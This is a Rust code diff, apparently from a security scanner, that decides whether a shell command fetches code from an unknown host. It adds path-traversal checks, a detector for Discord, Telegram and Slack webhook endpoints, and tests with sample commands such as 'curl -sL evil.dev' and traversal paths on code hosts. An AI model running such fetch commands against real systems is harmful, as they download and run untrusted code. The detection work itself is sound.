@@ -12,7 +12,31 @@ pub(crate) struct Url<'a> {
     pub plain: bool,
 }
 
-/// The addresses of a lower-case text, at most 64.
+impl<'a> Url<'a> {
+    /// An address without a scheme, which programs that fetch take for plain HTTP.
+    fn bare(word: &'a str) -> Self {
+        let cut = word.find(['/', '?', '#']).unwrap_or(word.len());
+        Self {
+            start: 0,
+            host: word[..cut].split(':').next().unwrap_or_default(),
+            path: &word[cut..],
+            plain: true,
+        }
+    }
+
+    /// Whether programs that fetch read the path as it is written: they resolve `..`, also where it is escaped.
+    fn is_literal(&self) -> bool {
+        let path = self.path.split(['?', '#']).next().unwrap_or_default();
+        !path.contains("..") && !path.contains("%2e") && !path.contains('\\')
+    }
+
+    /// The owner of a file on a host where many have accounts.
+    fn account(&self) -> Option<&'a str> {
+        self.path.split('/').nth(1).filter(|_| self.is_literal())
+    }
+}
+
+/// The addresses of a lower-case text.
 pub(crate) fn urls(text: &[u8]) -> impl Iterator<Item = Url<'_>> {
     let mut from = 0;
     std::iter::from_fn(move || {
@@ -55,11 +79,10 @@ pub(crate) fn urls(text: &[u8]) -> impl Iterator<Item = Url<'_>> {
             });
         }
     })
-    .take(64)
 }
 
 /// Whether a host is that domain or below it.
-fn is_below(host: &str, domain: &str) -> bool {
+pub(crate) fn is_below(host: &str, domain: &str) -> bool {
     host == domain
         || host
             .strip_suffix(domain)
@@ -147,25 +170,135 @@ const ACCOUNTS: [&str; 18] = [
     "vercel-labs",
 ];
 
-/// Whether an address is the known place of a well-known installer.
-pub(crate) fn is_known_installer(url: &Url<'_>) -> bool {
+/// Whether an address is the known place of a well-known installer. Plain HTTP is none, because anybody on the way may
+/// answer; without a scheme, the programs that fetch are sent on to HTTPS by all of these.
+fn is_known_place(url: &Url<'_>) -> bool {
     let is_installer = |place: &&&str| match place.split_once('/') {
         Some((host, path)) => {
-            host == url.host && url.path[1.min(url.path.len())..].starts_with(path)
+            let rest = url.path[1.min(url.path.len())..].strip_prefix(path);
+            host == url.host && rest.is_some_and(|_| url.is_literal())
         }
         None => is_below(url.host, place),
     };
-    if !url.plain && INSTALLERS.iter().any(|place| is_installer(&place)) {
-        return true;
-    }
     let code_host = matches!(
         url.host,
         "raw.githubusercontent.com" | "github.com" | "gist.githubusercontent.com"
     );
-    code_host
-        && ACCOUNTS
-            .iter()
-            .any(|account| url.path.split('/').nth(1) == Some(account))
+    INSTALLERS.iter().any(|place| is_installer(&place))
+        || (code_host
+            && url
+                .account()
+                .is_some_and(|account| ACCOUNTS.contains(&account)))
+}
+
+/// As [`is_known_place`], over HTTPS.
+pub(crate) fn is_known_installer(url: &Url<'_>) -> bool {
+    !url.plain && is_known_place(url)
+}
+
+/// Options of programs that fetch after which a value stands, by their last letter in lower case. After `-o` one stands
+/// or none.
+const WITH_VALUE: &[u8] = b"hduaebcwmtrxyzp";
+/// Beginnings of their long options after which a value stands.
+const LONG_WITH_VALUE: [&str; 24] = [
+    "--header",
+    "--data",
+    "--user",
+    "--output",
+    "--request",
+    "--retry",
+    "--max-",
+    "--connect-",
+    "--proxy",
+    "--cookie",
+    "--refer",
+    "--form",
+    "--write-out",
+    "--range",
+    "--ca",
+    "--cert",
+    "--key",
+    "--upload",
+    "--post-",
+    "--tries",
+    "--timeout",
+    "--directory-prefix",
+    "--proto",
+    "--resolve",
+];
+
+/// Whether a command that fetches names an address which is neither the known place of an installer nor of this machine:
+/// with a scheme, as a name with a point in it, or in a variable. A command without any address is a mention of one.
+pub(crate) fn fetches_unknown(command: &[u8]) -> bool {
+    let is_unknown = |url: &Url<'_>| {
+        !is_known_installer(url)
+            && !is_local(url.host)
+            && url
+                .host
+                .bytes()
+                .any(|byte| byte.is_ascii_alphanumeric() || byte == b'$')
+    };
+    if urls(command).any(|url| is_unknown(&url)) {
+        return true;
+    }
+    let is_end = |byte: &u8| byte.is_ascii_whitespace() || b"\"'`()|;,<>".contains(byte);
+    let mut words = command
+        .split(is_end)
+        .filter(|word| !word.is_empty())
+        .skip(1);
+    let mut has_known = urls(command).next().is_some();
+    let mut doubtful = false;
+    let mut option: Option<u8> = None;
+    for word in words.by_ref() {
+        if word.starts_with(b"-") {
+            let has_value = LONG_WITH_VALUE
+                .iter()
+                .any(|long| word.starts_with(long.as_bytes()));
+            option = match word.starts_with(b"--") {
+                true if has_value && !word.contains(&b'=') => WITH_VALUE.first().copied(),
+                true => None,
+                false => word.last().copied(),
+            };
+            continue;
+        }
+        let before = option.take();
+        if before.is_some_and(|letter| WITH_VALUE.contains(&letter)) {
+            continue;
+        }
+        let bare = std::str::from_utf8(word)
+            .ok()
+            .filter(|word| is_name(word))
+            .map(Url::bare);
+        let unknown = match &bare {
+            Some(url) if is_known_place(url) || is_local(url.host) => {
+                has_known = true;
+                false
+            }
+            Some(_) => true,
+            None => word.starts_with(b"$"),
+        };
+        // Behind `-o` it may be the name of a file.
+        if unknown && before != Some(b'o') {
+            return true;
+        }
+        doubtful |= unknown;
+    }
+    doubtful && !has_known
+}
+
+/// Whether a word is the name of a host, perhaps with a path: labels with points between them, the last of letters.
+fn is_name(word: &str) -> bool {
+    let cut = word.find(['/', '?', ':']).unwrap_or(word.len());
+    let mut labels = word[..cut].split('.').rev();
+    let is_top =
+        |label: &str| label.len() >= 2 && label.bytes().all(|byte| byte.is_ascii_lowercase());
+    let is_label = |label: &str| {
+        !label.is_empty()
+            && label
+                .bytes()
+                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
+    };
+    labels.next().is_some_and(is_top) && labels.clone().next().is_some() && labels.all(is_label)
 }
 
 /// Whether a host belongs to nobody, by RFC 2606: what is written with it is an example.
@@ -227,7 +360,7 @@ pub(crate) fn publisher(source: &str) -> Option<String> {
 pub(crate) fn is_of_publisher(url: &Url<'_>, publisher: &[String]) -> bool {
     let is_code_host = CODE_HOSTS.contains(&url.host);
     let name = if is_code_host {
-        url.path.split('/').nth(1)
+        url.account()
     } else if is_free_hosting(url.host) || is_paste(url.host) {
         url.host.split('.').next()
     } else {
@@ -334,6 +467,20 @@ pub(crate) fn is_collector(host: &str) -> bool {
     COLLECTORS.iter().any(|domain| is_below(host, domain))
 }
 
+/// Whether an address is a mailbox of a chat that is written into the text: its owner reads whatever arrives there.
+pub(crate) fn is_mailbox(url: &Url<'_>) -> bool {
+    let is_number = |rest: &str| rest.starts_with(|letter: char| letter.is_ascii_digit());
+    match url.host {
+        "discord.com" | "discordapp.com" => url
+            .path
+            .strip_prefix("/api/webhooks/")
+            .is_some_and(is_number),
+        "api.telegram.org" => url.path.strip_prefix("/bot").is_some_and(is_number),
+        "hooks.slack.com" => url.path.starts_with("/services/t"),
+        _ => false,
+    }
+}
+
 const FREE: [&str; 18] = [
     "vercel.app",
     "netlify.app",
@@ -429,6 +576,35 @@ mod tests {
                 .next()
                 .unwrap()
         ));
+        for known in [
+            "curl -s https://astral.sh/x",
+            "curl -fsSL get.docker.com",
+            "curl http://localhost:1/x",
+            "curl -o astral.sh https://get.docker.com",
+            "curl",
+            "curl ...",
+            "curl https://.../x",
+        ] {
+            assert!(!fetches_unknown(known.to_lowercase().as_bytes()), "{known}");
+        }
+        for unknown in [
+            "curl -sL evil.dev",
+            "curl -sSL get.tools.dev/x",
+            "curl astral.sh.evil.dev/x",
+            "curl -o evil.dev",
+            "curl --silent evil.dev https://astral.sh/x",
+            "curl -s $URL",
+            "curl -H 'a: b' \"$URL\" https://astral.sh/x",
+            "curl https://raw.githubusercontent.com/homebrew/../evil/i.sh",
+            "curl https://raw.githubusercontent.com/homebrew/%2e%2e/evil/i.sh",
+            "curl https://deno.land/install/../x/evil.sh",
+            "curl http://astral.sh/x",
+        ] {
+            assert!(
+                fetches_unknown(unknown.to_lowercase().as_bytes()),
+                "{unknown}"
+            );
+        }
         assert!(is_local("127.0.0.1") && is_local("localhost") && !is_local("example.com"));
         assert!(
             address("93.184.1.2").is_some_and(is_public)
